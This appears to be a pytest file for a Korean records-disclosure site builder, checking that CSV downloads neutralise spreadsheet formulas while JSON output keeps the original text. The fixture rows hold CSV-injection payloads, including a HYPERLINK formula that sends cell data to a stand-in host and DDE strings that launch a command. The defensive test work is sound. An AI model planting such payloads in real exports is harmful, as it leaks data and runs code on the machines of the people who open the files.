"""정보목록 CSV downloads are safe to open in a spreadsheet; JSON keeps every text as written."""

from __future__ import annotations

import csv
import io
import json

import pytest

from charterpress.build import render
from charterpress.tabular import excel_safe, write_csv
from conftest import TODAY, files_of

HEADER = "문서번호,제목,생산일자,생산부서,담당자,단위업무,보존기간,공개구분,비공개근거"
# (문서번호, 제목, 담당자, 단위업무): values a records system can export and a spreadsheet would run.
ROWS = [
    ("-123", '=HYPERLINK("https://evil.example/?"&A1,"클릭")', "김시험", "운영"),
    ("운영과-201", "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-"),
    ("운영과-202", "－2+3 (전각 빼기)", "김시험", "＝1+1"),
    ("운영과-203", "평범한 제목 = 그대로", "김시험", "운영"),
]


@pytest.mark.parametrize(("cell", "safe"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("-", "'-"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("＝1", "'＝1"),
    ("1-2", "1-2"), ("운영과-120", "운영과-120"), ("", ""), (" =1", " =1"), ("2026-10", "2026-10"),
])
def test_excel_safe(cell: str, safe: str) -> None:
    assert excel_safe(cell) == safe


def test_only_downloads_are_quoted() -> None:
    assert write_csv(("a",), [("=1",)]) == "\ufeffa\r\n=1\r\n".encode()
    assert write_csv(("a",), [("=1",)], for_download=True) == "\ufeffa\r\n'=1\r\n".encode()


def _site(make_site):
    quoted = [(no, title.replace('"', '""'), person, task) for no, title, person, task in ROWS]
    lines = [HEADER] + [f'{no},"{title}",2026-10-{5 + n:02d},운영과,"{person}",{task},1년,공개,'
                        for n, (no, title, person, task) in enumerate(quoted)]
    return make_site({"disclosures/2026/10.csv": "\n".join(lines) + "\n"})


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_downloads_neutralise_formulas_and_json_keeps_them(make_site) -> None:
    files = files_of(render(_site(make_site), TODAY))
    month = _cells(files["disclosures/2026/10/disclosures-2026-10.csv"][0])
    every = _cells(files["disclosures/disclosures-all.csv"][0])
    for rows in (month, [row[1:] for row in every]):
        body = [row for row in rows[1:] if row[0].lstrip("'") in {no for no, *_ in ROWS}]
        assert [row[0] for row in body] == ["'-123", "운영과-201", "운영과-202", "운영과-203"]
        assert [row[1] for row in body] == ["'" + ROWS[0][1], "'" + ROWS[1][1], "'" + ROWS[2][1], ROWS[3][1]]
        assert [row[4] for row in body] == ["김시험", "'" + ROWS[1][2], "김시험", "김시험"]
        assert [row[5] for row in body] == ["운영", "'-", "'＝1+1", "운영"]
        for row in rows:  # no cell of either download starts a formula
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    items = json.loads(files["disclosures/2026/10/disclosures-2026-10.json"][0])["lists"][0]["items"]
    written = {item["doc_no"]: (item["title"], item["person"], item["task"]) for item in items}
    assert written == {no: (title, person, task) for no, title, person, task in ROWS}
